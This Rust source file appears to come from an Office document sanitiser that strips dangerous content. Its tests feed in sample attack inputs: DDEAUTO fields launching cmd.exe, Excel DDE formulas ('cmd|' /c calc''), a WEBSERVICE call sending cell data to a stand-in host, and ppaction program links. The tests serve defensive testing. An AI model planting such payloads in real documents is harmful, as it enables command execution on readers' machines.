/// region minus its dangerous formulas), with the same findings and the same depth limit.
fn put_cell_data<W: std::io::Write>(
    sink: &mut Sink<'_, W>,
    filter: &mut Filter<'_>,
    at: usize,
    region: &sheet_data::Region,
    skipping: bool,
    depth: usize,
    limits: XmlLimits,
) -> Result<(), String> {
    if skipping {
        return Ok(());
    }
    if depth as u64 + u64::from(region.depth) > u64::from(limits.max_depth) {
        return Err(format!("XML nested deeper than {}", limits.max_depth));
    }
    let mut from = at;
    for &(a, b) in &region.dropped {
        sink.put(Piece::Spliced(from, a)).map_err(|e| e.to_string())?;
        filter.note(What::Dde, "f", "formula removed, cached value kept");
        from = b;
    }
    sink.put(Piece::Spliced(from, region.end)).map_err(|e| e.to_string())
}

/// A piece of output: a span of the input copied as it was, or bytes we wrote.
enum Piece {
    Raw(usize, usize),
    /// A span of the spliced-in cell data (offsets into the original part).
    Spliced(usize, usize),
    Owned(Vec<u8>),
}

/// Where output goes: into the open formula or run buffer, or straight out.
struct Sink<'x, W> {
    xml: &'x [u8],
    /// The original part, when cell data was spliced in.
    spliced: &'x [u8],
    out: W,
    run: Option<(Vec<Piece>, bool, usize)>,
    formula: Option<(Vec<Piece>, String, usize)>,
}

impl<W: std::io::Write> Sink<'_, W> {
    fn put(&mut self, piece: Piece) -> std::io::Result<()> {
        if let Some((pieces, _, _)) = self.formula.as_mut() {
            pieces.push(piece);
            return Ok(());
        }
        if let Some((pieces, _, _)) = self.run.as_mut() {
            pieces.push(piece);
            return Ok(());
        }
        match piece {
            Piece::Raw(a, b) => self.out.write_all(self.xml.get(a..b).unwrap_or_default()),
            Piece::Spliced(a, b) => self.out.write_all(self.spliced.get(a..b).unwrap_or_default()),
            Piece::Owned(bytes) => self.out.write_all(&bytes),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The one-pass name check gives what the three passes it replaced gave (white space
    /// ends the name; then letters, digits, `_ - .` and one inner `:`), on every string of up
    /// to five bytes over an alphabet with each kind of byte.
    #[test]
    fn the_one_pass_name_check_agrees_with_the_rule() {
        fn reference(content: &[u8]) -> Option<(usize, usize)> {
            let len = content.iter().position(|&b| xml_space(b)).unwrap_or(content.len());
            let name = &content[..len];
            let first = *name.first()?;
            let colons = name.iter().filter(|&&b| b == b':').count();
            let ok = (first.is_ascii_alphabetic() || first == b'_')
                && colons <= 1
                && name.last() != Some(&b':')
                && name
                    .iter()
                    .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b':'));
            ok.then(|| (len, memchr::memchr(b':', name).map_or(0, |c| c + 1)))
        }
        let alphabet = b"aZ_9-.: \t\n=\"\xc3";
        let mut strings: Vec<Vec<u8>> = vec![Vec::new()];
        for _ in 0..5 {
            let longer: Vec<Vec<u8>> = strings
                .iter()
                .filter(|s| s.len() == strings.last().map_or(0, Vec::len))
                .flat_map(|s| alphabet.iter().map(move |&b| [s.as_slice(), &[b]].concat()))
                .collect();
            strings.extend(longer);
        }
        assert!(strings.len() > 100_000);
        for s in &strings {
            assert_eq!(plain_name(s), reference(s), "{:?}", String::from_utf8_lossy(s));
        }
        assert_eq!(plain_name(b"w:style w:type=\"x\""), Some((7, 2)));
    }

    fn run(xml: &str, flavor: PartFlavor, dropped: &[&str]) -> Result<(String, Vec<What>), String> {
        let rels = RelIds {
            dropped: dropped.iter().map(|s| s.to_string()).collect(),
            embedded: BTreeSet::new(),
        };
        let f = filter(
            xml.as_bytes(),
            flavor,
            &rels,
            Hyperlinks::Text,
            XmlLimits { max_depth: 64 },
        )?;
        Ok((
            String::from_utf8(f.bytes).unwrap(),
            f.findings.into_iter().map(|f| f.0).collect(),
        ))
    }

    const W: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;

    #[test]
    fn dde_field_split_across_runs_is_removed_and_its_result_kept() {
        let xml = format!(
            r#"<w:document {W}><w:body><w:p><w:r><w:t>before </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>RESULT</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#
        );
        let (out, found) = run(&xml, PartFlavor::Word, &[]).unwrap();
        assert!(!out.contains("instrText") && !out.contains("fldChar"), "{out}");
        assert!(out.contains("RESULT") && out.contains("before "));
        assert!(found.contains(&What::Dde));
    }

    #[test]
    fn harmless_fields_stay() {
        let xml = format!(
            r#"<w:document {W}><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:document>"#
        );
        let (out, found) = run(&xml, PartFlavor::Word, &[]).unwrap();
        assert!(out.contains("PAGE") && out.contains("fldChar"));
        assert!(found.is_empty());
    }

    #[test]
    fn fldsimple_dde_is_unwrapped() {
        let xml = format!(
            r#"<w:p {W}><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>"#
        );
        let (out, _) = run(&xml, PartFlavor::Word, &[]).unwrap();
        assert!(!out.contains("fldSimple") && out.contains("shown"), "{out}");
    }

    #[test]
    fn hyperlink_to_a_dropped_relationship_becomes_text() {
        let xml = format!(r#"<w:p {W}><w:hyperlink r:id="rId9"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>"#);
        let (out, found) = run(&xml, PartFlavor::Word, &["rId9"]).unwrap();
        assert!(!out.contains("hyperlink") && out.contains("click"), "{out}");
        assert_eq!(found, [What::Uri]);
    }

    #[test]
    fn excel_dde_formula_goes_and_the_cached_value_stays() {
        let xml = r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c r="A1"><f>cmd|' /c calc'!A0</f><v>0</v></c><c r="A2"><f>SUM(B1:B3)&amp;"|"</f><v>6</v></c></row></sheetData></worksheet>"#;
        let (out, found) = run(xml, PartFlavor::Excel, &[]).unwrap();
        assert!(!out.contains("cmd|"), "{out}");
        assert!(out.contains("<v>0</v>") && out.contains("SUM(B1:B3)"));
        assert_eq!(found, [What::Dde]);
    }

    const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"><dimension ref="A1:C3"/><sheetData>"#;
    const SHEET_CELLS: &str = r#"
 <row r="1" spans="1:3" x14ac:dyDescent="0.25"><c r="A1" t="inlineStr"><is><r><rPr><b/><sz val="11"/><color rgb="FFFF0000"/><rFont val="游ゴシック"/></rPr><t xml:space="preserve">会議 &amp; &lt;x&gt; &#x41;&#66;</t></r></is></c><c r="B1"><f>cmd|' /c calc'!A0</f><v>0</v></c><c r="C1"><f t="shared" ref="C1:C3" si="0">B1*2</f><v>2</v></c></row>
 <row r="2"><c r="A2" s='1'><f>WEBSERVICE("http://x.example/"&amp;A1)</f><v>x</v></c><c r="C2"><f t="shared" si="0"/><v>4</v></c></row>
 <row r="3"><c r="A3"><f>"a|b"&amp;SUM(B1:B2)</f><v>3</v></c></row>
"#;
    const SHEET_TAIL: &str = r#"</sheetData><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><controls><control r:id="rId2"/></controls></worksheet>"#;

    #[test]
    fn the_cell_data_fast_path_writes_what_the_general_filter_writes() {
        let xml = format!("{SHEET_HEAD}{SHEET_CELLS}{SHEET_TAIL}");
        assert!(
            plan_sheet_data(xml.as_bytes(), XmlLimits { max_depth: 64 }).is_some(),
            "the fast path must take this part"
        );
        let (general, fast) = both_paths(xml.as_bytes(), 64);
        let (general, fast) = (general.unwrap(), fast.unwrap());
        assert_eq!(String::from_utf8_lossy(&general.0), String::from_utf8_lossy(&fast.0));
        assert_eq!(general.1, fast.1);
        let out = String::from_utf8(fast.0).unwrap();
        assert!(
            !out.contains("cmd|") && !out.contains("WEBSERVICE") && !out.contains("<control "),
            "{out}"
        );
        assert!(out.contains("SUM(B1:B2)") && out.contains("B1*2") && out.contains("会議 &amp; &lt;x&gt;"));
        assert_eq!(fast.1.iter().filter(|f| f.0 == What::Dde).count(), 2);
        // The depth limit counts the cell data as the general filter does.
        let (general, fast) = both_paths(xml.as_bytes(), 6);
        assert!(general.is_err() && fast.is_err());
    }

    #[test]
    fn a_byte_order_mark_before_a_worksheet_is_read_alike_by_both_paths() {
        // Found by fuzzing the sheet_data target.
        let sheet = br#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r='C1' s="2"><f t="shared" si="0"/><v>1</v></c></row></sheetData></worksheet>"#;
        let with_bom = [&b"\xEF\xBB\xBF"[..], sheet].concat();
        for xml in [&sheet[..], &with_bom] {
            check_fast_path_agrees(xml);
            let out = filter(
                xml,
                PartFlavor::Excel,
                &RelIds::default(),
                Hyperlinks::Text,
                XmlLimits { max_depth: 64 },
            );
            assert!(out.is_ok(), "{:?}", out.err());
        }
    }

    #[test]
    fn the_fast_path_agrees_with_the_general_filter_on_damaged_sheets() {
        let xml = format!("{SHEET_HEAD}{SHEET_CELLS}{SHEET_TAIL}").into_bytes();
        let mut seed = 0x9E37_79B9_7F4A_7C15u64;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let (mut agreed_ok, mut agreed_err, mut fast_taken) = (0, 0, 0);
        for _ in 0..3000 {
            let mut v = xml.clone();
            for _ in 0..1 + next() % 3 {
                let at = SHEET_HEAD.len() + (next() as usize % (SHEET_CELLS.len() + 12));
                match next() % 4 {
                    0 => v[at] ^= 1 << (next() % 8),
                    1 => v[at] = b"<>&;/\"\'=fx: "[next() as usize % 12],
                    2 => {
                        v.remove(at);
                    }
                    _ => v.insert(at, b"<>&/f"[next() as usize % 5]),
                }
            }
            if plan_sheet_data(&v, XmlLimits { max_depth: 64 }).is_some() {
                fast_taken += 1;
            }
            match both_paths(&v, 64) {
                (Ok(g), Ok(f)) => {
                    assert_eq!(g.0, f.0, "output differs for {:?}", String::from_utf8_lossy(&v));
                    assert_eq!(g.1, f.1);
                    agreed_ok += 1;
                }
                (Err(_), Err(_)) => agreed_err += 1,
                (g, f) => panic!(
                    "paths disagree: {:?} vs {:?} for {:?}",
                    g.map(|_| ()),
                    f.map(|_| ()),
                    String::from_utf8_lossy(&v)
                ),
            }
        }
        // Both kinds of outcome were exercised, and damaged cell data the scanner still
        // accepted as well as cell data it handed back.
        assert!(agreed_ok > 100 && agreed_err > 100, "{agreed_ok} ok, {agreed_err} err");
        assert!(
            fast_taken > 300 && fast_taken < 2900,
            "fast path taken {fast_taken} times"
        );
    }

    #[test]
    fn only_embedded_objects_of_kept_documents_stay() {
        let obj = |kind: &str, id: &str| {
            format!(
                r#"<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="{kind}" ProgID="Excel.Sheet.12" r:id="{id}"/>"#
            )
        };
        let xml = format!(
            r#"<w:body {W}>{}{}{}</w:body>"#,
            obj("Embed", "rIdKept"),
            obj("Embed", "rIdOther"),
            obj("Link", "rIdKept")
        );
        let rels = RelIds {
            dropped: BTreeSet::new(),
            embedded: ["rIdKept".to_string()].into(),
        };
        let f = filter(
            xml.as_bytes(),
            PartFlavor::Word,
            &rels,
            Hyperlinks::Text,
            XmlLimits { max_depth: 64 },
        )
        .unwrap();
        let out = String::from_utf8(f.bytes).unwrap();
        assert_eq!(out.matches("<o:OLEObject").count(), 1, "{out}");
        assert!(out.contains(r#"Type="Embed" ProgID="Excel.Sheet.12" r:id="rIdKept""#));
        assert_eq!(f.findings.len(), 2);
    }

    #[test]
    fn doctype_and_unknown_entities_are_refused() {
        assert!(run(r#"<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>"#, PartFlavor::Other, &[]).is_err());
        assert!(run(r#"<x>&a;</x>"#, PartFlavor::Other, &[]).is_err());
        assert!(run(r#"<x>&amp;&#x41;</x>"#, PartFlavor::Other, &[]).is_ok());
    }

    #[test]
    fn deep_nesting_is_refused() {
        let xml = "<a>".repeat(100) + &"</a>".repeat(100);
        assert!(run(&xml, PartFlavor::Other, &[]).is_err());
    }

    #[test]
    fn program_actions_in_slides_are_removed() {
        let xml = r#"<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:hlinkClick action="ppaction://program?x" r:id=""/><a:t>x</a:t></p:sld>"#;
        let (out, found) = run(xml, PartFlavor::PowerPoint, &[]).unwrap();
        assert!(!out.contains("ppaction"), "{out}");
        assert_eq!(found, [What::Action]);
    }
}

#[cfg(test)]
mod unchanged_tests {
    use super::*;

    fn proven(xml: &[u8], flavor: PartFlavor, max_depth: u32) -> bool {
        unchanged_agrees(xml, flavor, XmlLimits { max_depth })
    }

    #[test]
    fn plain_parts_are_proven_and_anything_a_rule_or_the_reader_minds_is_not() {
        let styles = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n\
            <w:styles xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\
            <w:style w:type=\"paragraph\" w:styleId=\"a\"><w:name w:val=\"Normal &amp; &#x41;\"/>\
            <w:rPr><w:sz w:val=\"21\"/></w:rPr></w:style>text &lt; &#12354; <w:x a='>'/></w:styles>";
        assert!(proven(styles, PartFlavor::Word, 256));
        assert!(!proven(styles, PartFlavor::Word, 2), "deeper than the limit");
        assert!(
            !proven(styles, PartFlavor::Excel, 256),
            "worksheets take their own path"
        );
        let not = |xml: &[u8]| !proven(xml, PartFlavor::Word, 256);
        assert!(not(b"<a><!-- c --></a>"), "a comment is dropped by the filter");
        assert!(not(b"<a><![CDATA[x]]></a>"));
        assert!(not(b"<!DOCTYPE a><a/>"));
        assert!(not(b"<a><?pi x?></a>"));
        assert!(not(b"<a>&nbsp;</a>"), "an undefined entity");
        assert!(not(b"<a><b></a></b>"), "unbalanced");
        assert!(not(b"<a>"), "unclosed");
        assert!(not(b"<a><w:fldSimple w:instr=\"DDE x\"/></a>"));
        assert!(not(b"<a><o:OLEObject/></a>"));
        assert!(not(b"<a><w:fldChar w:fldCharType=\"begin\"/></a>"));
        assert!(not(b"<a xmlns:xml=\"x\"/>"), "the reader refuses this binding");
        assert!(not(b"\xef\xbb\xbf<a/>"), "a byte-order mark");
        // Found by the xml_unchanged fuzz target: the declaration is decoded by the reader
        // (not UTF-8: refused), and a form feed is no white space in XML.
        assert!(not(b"<?xml ver\x83\x96\x90\x91=\"1.0\"?><a/>"));
        assert!(not(b"<Relationships\x0cxmlns=\"x\"></Relationships>"));
        // Removed relationships: the filter looks at every attribute.
        let rels = RelIds {
            dropped: ["rId1".to_string()].into(),
            embedded: BTreeSet::new(),
        };
        assert!(!unchanged(b"<a/>", PartFlavor::Word, &rels, XmlLimits { max_depth: 8 }));
    }
}
